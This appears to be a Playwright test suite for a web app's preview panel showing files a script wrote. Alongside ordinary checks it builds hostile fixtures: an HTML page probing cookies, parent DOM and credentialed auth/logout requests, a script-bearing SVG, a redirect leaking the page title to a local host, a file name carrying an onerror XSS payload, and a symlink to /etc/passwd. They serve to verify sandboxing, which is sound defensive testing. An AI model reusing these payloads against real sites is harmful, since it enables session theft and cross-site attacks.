/** Files that a script writes to /tmp/out, shown in a real browser: images, tables, trees, pages, and malicious pages. */

import { expect } from 'chai';
import type { Frame, Page } from 'playwright-core';
import { seriousViolations } from '../support/accessibility.ts';
import type { Agent } from '../support/agent.ts';
import { screenshot, viewports } from '../support/browser.ts';
import { exhaustive } from '../support/exhaustive.ts';
import { journey, makeScript } from '../support/journey.ts';

/** Writes one file of each kind. */
const MAKER = `"""Make a report"""
import json, struct, zlib

out = "/tmp/out/"


def png(width, height):
    rows = b"".join(
        b"\\0" + b"".join(bytes((x * 255 // width, 90, y * 255 // height)) for x in range(width)) for y in range(height)
    )
    chunk = lambda kind, data: struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))
    head = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
    return b"\\x89PNG\\r\\n\\x1a\\n" + chunk(b"IHDR", head) + chunk(b"IDAT", zlib.compress(rows)) + chunk(b"IEND", b"")


open(out + "plot.png", "wb").write(png(1600, 500))
with open(out + "orders.csv", "w", encoding="utf-8-sig") as file:
    file.write("Nummer;Name;Betrag;Formel\\r\\n")
    for i in range(100_000):
        file.write(f'{i};"Müller; {i}";{(i * 7919) % 1000},5;=1+1\\r\\n')
json.dump({"orders": [{"id": 12345678901234567890, "total": 9.5, "open": True}], "note": None, "many": list(range(500))}, open(out + "summary.json", "w"))
open(out + "report.html", "w").write("<h1>Report</h1><p id=p>still</p><script>p.textContent = 'scripts run'</script>")
open(out + "notes.txt", "w").write("first line\\nsecond line\\n")
open(out + "model.bin", "wb").write(bytes(1000))
import os
os.symlink("/etc/passwd", out + "passwd")
print("report made")
`;

/** Tries everything that might reach the workspace, and writes the results into itself. */
const HOSTILE = `<body><pre id="said"></pre><script>
const said = {};
const tried = (name, act) => { try { said[name] = String(act()) } catch (error) { said[name] = 'refused ' + error.name } };
tried('cookie', () => document.cookie);
tried('parent cookie', () => parent.document.cookie);
tried('parent', () => parent.document.body.innerHTML);
tried('top', () => { top.location = 'about:blank#taken'; return top.location.href });
tried('storage', () => localStorage.length);
tried('window', () => window.open('/'));
tried('dialog', () => { alert('x'); return 'shown' });
tried('frame', () => { const f = document.createElement('iframe'); f.src = '/api/auth/me'; document.body.append(f); return f.contentDocument });
tried('form', () => { const f = document.createElement('form'); f.action = '/api/auth/logout'; f.method = 'POST'; document.body.append(f); f.submit(); return 'sent' });
tried('origin', () => self.origin);
const asked = (url, options) => fetch(url, options).then((r) => 'answered ' + r.status, (error) => 'refused ' + error.name);
Promise.all([asked('/api/auth/me', { credentials: 'include' }), asked('/api/auth/logout', { method: 'POST', mode: 'no-cors', credentials: 'include' }),
  new Promise((done) => { const i = new Image(); i.onload = () => done('loaded'); i.onerror = () => done('refused'); i.src = '/favicon.ico' }),
  new Promise((done) => { const s = document.createElement('script'); s.onload = () => done('loaded'); s.onerror = () => done('refused'); s.src = '/assets/none.js'; document.body.append(s) }),
]).then(([me, logout, image, script]) => { Object.assign(said, { me, logout, image, script }); document.getElementById('said').textContent = JSON.stringify(said); });
</script></body>`;

const SVG = `<svg xmlns="http://www.w3.org/2000/svg" width="200" height="80"><rect width="200" height="80" fill="teal"/><text x="20" y="45" fill="white">drawn</text>
<script>top.document.title = 'taken'; fetch('/api/auth/logout', {method: 'POST'})</script><image href="/api/auth/me" onload="top.document.title='taken'"/></svg>`;

const HARM = `"""Mean harm"""
open("/tmp/out/a.html", "w").write(${JSON.stringify(HOSTILE)})
open("/tmp/out/away.html", "w").write("<script>location = 'http://127.0.0.1:9/away?' + document.title</script>")
open("/tmp/out/b.svg", "w").write(${JSON.stringify(SVG)})
open("/tmp/out/c.txt", "w").write("<script>document.title = 'taken'</script>")
open("/tmp/out/<img src=x onerror=alert(1)>.json", "w").write('{"<img src=x onerror=alert(1)>": "<script>alert(1)</script>"}')
`;

const output = (page: Page) => page.locator('.ved-Output:visible');
const preview = (page: Page) => output(page).locator('.ved-Files-preview');
/** The first is 1; the heading has a number too. */
const row = (page: Page, number: number) => preview(page).locator(`tr[aria-rowindex="${number + 1}"]`);
const choose = (page: Page, name: string) => output(page).locator('.ved-Files-row').filter({ hasText: name }).click();

async function ran(agent: Agent, content: string): Promise<number> {
  const script = await makeScript(agent, content);
  const { body } = await agent.post(`/api/execute/${script}`, { source: 'draft' });
  if (body.status !== 'succeeded') throw new Error(`the script failed: ${body.stderr}`);
  return body.id;
}

/** Opens a run from the list, and its files. */
async function openFiles(page: Page, run: number): Promise<void> {
  await page.getByRole('tab', { name: 'Runs' }).click();
  await page
    .locator('.ved-Runs-row')
    .filter({ hasText: `run ${run}` })
    .or(page.locator(`.ved-Runs-item:has([aria-label="Select run ${run} to compare"]) .ved-Runs-row`))
    .first()
    .click();
  await output(page)
    .getByRole('tab', { name: /^Files/ })
    .click();
  await preview(page).waitFor();
}

async function frameOf(page: Page): Promise<Frame> {
  const handle = await preview(page).locator('iframe').elementHandle();
  return (await handle!.contentFrame())!;
}

describe('files that a script wrote', () => {
  const at = journey();
  let run: number;
  let harm: number;

  before(async () => {
    run = await ran(at.agents.ed1, MAKER);
    harm = await ran(at.agents.ed1, HARM);
  });

  it('are shown next to the output according to their type, also to a viewer', async () => {
    const { page, check } = await at.open('mo1', { expected: [/document's frame is sandboxed/] });
    await openFiles(page, run);
    await page.locator(`.ved-Runs-row[data-ved-run-id="${run}"]`).getByRole('img', { name: '6 files' }).waitFor();
    const files = output(page);
    expect(await files.getByRole('tab', { name: 'Files (6)' }).getAttribute('aria-selected')).to.equal('true');
    await files.getByText('1 file left out: symbolic and hard links are not stored').waitFor();

    await choose(page, 'plot.png');
    const picture = preview(page).locator('img');
    await page.waitForFunction((image) => (image as HTMLImageElement).naturalWidth === 1600, await picture.elementHandle());
    const fitted = (await picture.boundingBox())!.width;
    expect(fitted).to.be.below(1300);
    await screenshot(page, 'files-picture');
    await preview(page).getByRole('button', { name: 'plot.png, actual size' }).click();
    expect((await picture.boundingBox())!.width).to.equal(1600);

    await choose(page, 'orders.csv');
    await preview(page).getByText('100,000 rows, 4 columns').waitFor();
    expect(await preview(page).getByRole('columnheader').allTextContents()).to.deep.equal(['Nummer ', 'Name ', 'Betrag ', 'Formel ']);
    expect(await row(page, 1).getByRole('cell').allTextContents()).to.deep.equal(['0', 'Müller; 0', '0,5', '=1+1']);
    expect(await preview(page).locator('tbody tr').count()).to.be.below(80);
    await screenshot(page, 'files-table');

    await choose(page, 'summary.json');
    await preview(page).getByText('12345678901234567890').waitFor();
    await preview(page).locator('summary').filter({ hasText: 'many' }).click();
    await preview(page).getByRole('button', { name: 'Show more (400 left)' }).waitFor();
    await screenshot(page, 'files-tree');

    await choose(page, 'report.html');
    await (await frameOf(page)).getByText('still').waitFor();
    await screenshot(page, 'files-page');
    await preview(page).getByRole('button', { name: 'Run scripts' }).click();
    await preview(page).frameLocator('iframe').getByText('scripts run').waitFor();

    await choose(page, 'notes.txt');
    await preview(page).getByText('second line').waitFor();
    await choose(page, 'model.bin');
    await preview(page).getByText('No preview for this kind of file.').waitFor();
    check();
  });

  exhaustive.it('can be downloaded one by one and all together', async () => {
    const { page, check } = await at.open('ed1');
    await openFiles(page, run);
    const saved = async (name: string) => {
      const [download] = await Promise.all([page.waitForEvent('download'), output(page).getByRole('link', { name }).click()]);
      return download.suggestedFilename();
    };
    expect(await saved('Download report.html')).to.equal('report.html');
    expect(await saved('Download all (zip)')).to.equal(`run-${run}-files.zip`);
    check();
  });

  exhaustive.it('are reachable by keyboard, without accessibility violations in either theme or in a narrow panel', async () => {
    for (const colorScheme of ['light', 'dark'] as const) {
      const { page, check } = await at.open('ed1', { colorScheme, viewport: viewports.laptop });
      await openFiles(page, run);
      await output(page)
        .getByRole('tab', { name: /^Files/ })
        .focus();
      await page.keyboard.press('ArrowLeft');
      await output(page).getByRole('log').waitFor();
      await page.keyboard.press('ArrowRight');
      await page.keyboard.press('Tab');
      await page.keyboard.press('Enter');
      for (const name of ['summary.json', 'orders.csv']) {
        await choose(page, name);
        await preview(page).locator('table, .ved-FileTree').waitFor();
        expect(await seriousViolations(page), `${name} in ${colorScheme}`).to.deep.equal([]);
      }
      await screenshot(page, `files-${colorScheme}`);
      await page.setViewportSize({ width: 1280, height: 1600 });
      await page.evaluate(() => {
        const panel = document.querySelector<HTMLElement>('.ved-Files')!;
        panel.style.width = '420px';
        panel.style.maxWidth = '420px';
      });
      await screenshot(page, `files-narrow-${colorScheme}`);
      check();
    }
  });

  exhaustive.it('of a hundred thousand rows scroll and sort without delay', async () => {
    const { page, check } = await at.open('ed1');
    await openFiles(page, run);
    await page.evaluate(() => {
      const seen = { longest: 0 };
      new PerformanceObserver((list) => {
        for (const { duration } of list.getEntries()) seen.longest = Math.max(seen.longest, duration);
      }).observe({ type: 'longtask' });
      Object.assign(window, { seen });
    });
    await choose(page, 'orders.csv');
    await preview(page).getByText('100,000 rows, 4 columns').waitFor();
    await preview(page).getByRole('button', { name: 'Betrag' }).click();
    await preview(page).getByRole('button', { name: 'Betrag' }).click();
    expect(await row(page, 1).getByRole('cell').nth(2).textContent()).to.equal('999,5');
    await preview(page)
      .getByRole('region')
      .evaluate((scroller) => scroller.scrollTo(0, scroller.scrollHeight));
    await row(page, 100_000).waitFor();
    const longest = await page.evaluate(() => (window as unknown as { seen: { longest: number } }).seen.longest);
    expect(longest).to.be.below(2000);
    check();
  });

  it('that are malicious reach no cookies, no API, no other windows, and not the page around them', async () => {
    const expected = [/sandbox|Content Security Policy|frame-src|frame-ancestors|policy violation|blocked|Refused|ERR_|csp|CORS|null/i];
    const { page, check } = await at.open('ed1', { expected });
    const windows: string[] = [];
    page.context().on('page', (opened) => windows.push(opened.url()));
    await openFiles(page, harm);
    const address = page.url();
    await choose(page, 'a.html');
    await preview(page).getByRole('button', { name: 'Run scripts' }).click();
    const text = preview(page).frameLocator('iframe').locator('#said');
    await text.filter({ hasText: 'logout' }).waitFor();
    const said = JSON.parse((await text.textContent())!);
    for (const name of ['cookie', 'parent cookie', 'parent', 'top', 'storage']) expect(said[name], name).to.match(/^refused SecurityError/);
    expect(said).to.include({ window: 'null', origin: 'null', frame: 'null', image: 'refused', script: 'refused' });
    expect([said.me, said.logout]).to.deep.equal(['refused TypeError', 'refused TypeError']);
    expect(windows).to.deep.equal([]);
    expect(page.url()).to.equal(address);
    expect((await at.agents.ed1.get('/api/auth/me')).status).to.equal(200);

    await choose(page, 'away.html');
    const gone: string[] = [];
    page.on('request', (request) => gone.push(request.url()));
    const refused = page.waitForEvent('console', { predicate: (message) => /127\.0\.0\.1:9.*frame-src/s.test(message.text()) });
    await preview(page).getByRole('button', { name: 'Run scripts' }).click();
    await refused;
    expect(gone.filter((url) => url.includes('127.0.0.1:9/'))).to.deep.equal([]);

    await choose(page, 'b.svg');
    await page.waitForFunction(
      (image) => (image as HTMLImageElement).naturalWidth === 200,
      await preview(page).locator('img').elementHandle(),
    );
    await screenshot(page, 'files-drawing');
    await choose(page, '<img src=x onerror=alert(1)>.json');
    await preview(page).getByText('"<script>alert(1)</script>"').waitFor();
    expect(await page.title()).not.to.equal('taken');
    check();
  });

  exhaustive.it('that are malicious reach nothing when opened at their own address either', async () => {
    const { page } = await at.open('ed1', { expected: [/.*/] });
    for (const name of ['a.html', 'b.svg', 'c.txt']) {
      await page.goto(new URL(`/api/runs/${harm}/files/${name}`, at.server.url).href);
      expect(await page.evaluate(() => [self.origin, document.title])).to.deep.equal(['null', '']);
      if (name === 'a.html') expect(await page.locator('#said').textContent()).to.equal('');
    }
    expect((await at.agents.ed1.get('/api/auth/me')).status).to.equal(200);
  });
});
